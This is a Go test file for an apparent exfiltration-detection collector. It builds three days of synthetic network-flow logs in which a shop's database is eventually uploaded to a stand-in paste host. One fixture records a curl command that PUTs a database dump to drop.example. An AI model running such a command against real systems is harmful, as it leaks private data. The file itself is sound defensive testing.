package main

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"net/netip"
	"os"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/otelcol-exfil/otelcol-exfil/internal/flow"
)

// threeDays is the README's recording: a shop that talks to a payment service all
// the time and is backed up by FTP every night; on the third day its database
// leaves by HTTP PUT.
const threeDays = "testdata/three_days.jsonl.gz"

func TestRecording(t *testing.T) {
	if *update {
		require.NoError(t, os.WriteFile(threeDays, record(t), 0o644))
	}
	want, err := os.ReadFile(threeDays)
	require.NoError(t, err)
	require.Equal(t, want, record(t), "run with -update")
}

func record(t *testing.T) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	start := time.Date(2026, time.March, 3, 0, 0, 0, 0, time.UTC)
	for at := start; at.Before(start.AddDate(0, 0, 3)); at = at.Add(10 * time.Minute) {
		batch := plog.NewLogs()
		web(batch, at)
		switch at.Sub(start) {
		case 2 * time.Hour, 26 * time.Hour, 50 * time.Hour:
			backup(batch, at.Add(5*time.Second))
		case 61 * time.Hour:
			theft(batch, at.Add(7*time.Second))
		}
		line, err := (&plog.JSONMarshaler{}).MarshalLogs(batch)
		require.NoError(t, err)
		_, err = fmt.Fprintf(z, "%s\n", line)
		require.NoError(t, err)
	}
	require.NoError(t, z.Close())
	return out.Bytes()
}

func container(ld plog.Logs, res flow.Resource) plog.LogRecordSlice {
	rl := ld.ResourceLogs().AppendEmpty()
	res.Namespace, res.Cluster, res.Node = "shop", "prod", "node-1"
	res.Encode(rl.Resource())
	return rl.ScopeLogs().AppendEmpty().LogRecords()
}

// web is ten minutes of requests to the payment service.
func web(ld plog.Logs, at time.Time) {
	r := outbound(at, "10.0.3.7:41000", "198.51.100.20:443")
	r.Protocol, r.Server, r.TLS.Version = "tls", "api.payments.example", "1.3"
	r.Bytes, r.Packets, r.ReverseBytes, r.ReversePackets = 60_000+int64(at.Hour())*900, 240, 90_000, 260
	r.Process = flow.Process{PID: 2112, Executable: "/srv/shop"}
	r.Encode(container(ld, flow.Resource{Deployment: "web", Pod: "web-5d9c7b6f4-abcde", K8sContainer: "web", Image: "registry.example/shop/web"}).AppendEmpty())
}

// backup is a dump put by FTP: a control channel and a data channel.
func backup(ld plog.Logs, at time.Time) {
	const size = 320 << 20
	records := container(ld, flow.Resource{CronJob: "db-backup", Pod: "db-backup-28540-x7k2p", K8sContainer: "dump", Image: "registry.example/shop/backup"})
	control := outbound(at, "10.0.3.40:52000", "203.0.113.80:21")
	control.Protocol, control.Server, control.FTPCommands = "ftp", "ftp.backup.example", []string{"USER", "PASS", "PASV", "STOR"}
	control.Bytes, control.Packets, control.ReverseBytes, control.ReversePackets = 160, 9, 420, 9
	control.Process = flow.Process{PID: 7001, Executable: "/usr/bin/lftp"}
	control.Encode(records.AppendEmpty())
	data := outbound(at.Add(4*time.Second), "10.0.3.40:52001", "203.0.113.80:40022")
	data.Protocol, data.Bytes, data.Packets, data.ReversePackets = "ftp-data", size, size/1400, 9000
	data.Start, data.Process = at.UnixNano(), control.Process
	data.Encode(records.AppendEmpty())
}

// theft is a database dump put to a paste service from the web shop's container.
func theft(ld plog.Logs, at time.Time) {
	const size = 48 << 20
	records := container(ld, flow.Resource{Deployment: "web", Pod: "web-5d9c7b6f4-abcde", K8sContainer: "web", Image: "registry.example/shop/web"})
	r := outbound(at, "10.0.3.7:43210", "192.0.2.66:80")
	r.Protocol, r.Server, r.EndReason = "http", "drop.example", flow.EndActiveTimeout
	r.HTTP = flow.HTTP{Method: "PUT", Path: "/a/dump.sql.gz", UserAgent: "curl/8.5.0", BodySize: size, Requests: 1}
	r.Bytes, r.Packets, r.ReversePackets = 420, 3, 2
	r.Process = flow.Process{PID: 31337, Executable: "/usr/bin/curl", CommandLine: "curl -u ****:**** -T /tmp/dump.sql.gz http://drop.example/a/"}
	r.Encode(records.AppendEmpty())
	r.Time, r.End, r.EndReason, r.HTTP = r.Time+9e9, r.End+9e9, flow.EndOfFlow, flow.HTTP{}
	r.Bytes, r.Packets, r.ReverseBytes, r.ReversePackets = size, size/1400, 300, 9000
	r.Encode(records.AppendEmpty())
}

func outbound(at time.Time, from, to string) *flow.Record {
	return &flow.Record{
		Time: at.UnixNano(), Start: at.UnixNano(), End: at.UnixNano(),
		Source: netip.MustParseAddrPort(from), Destination: netip.MustParseAddrPort(to),
		Transport: "tcp", Initiator: flow.InitiatorSource, EndReason: flow.EndOfFlow,
	}
}
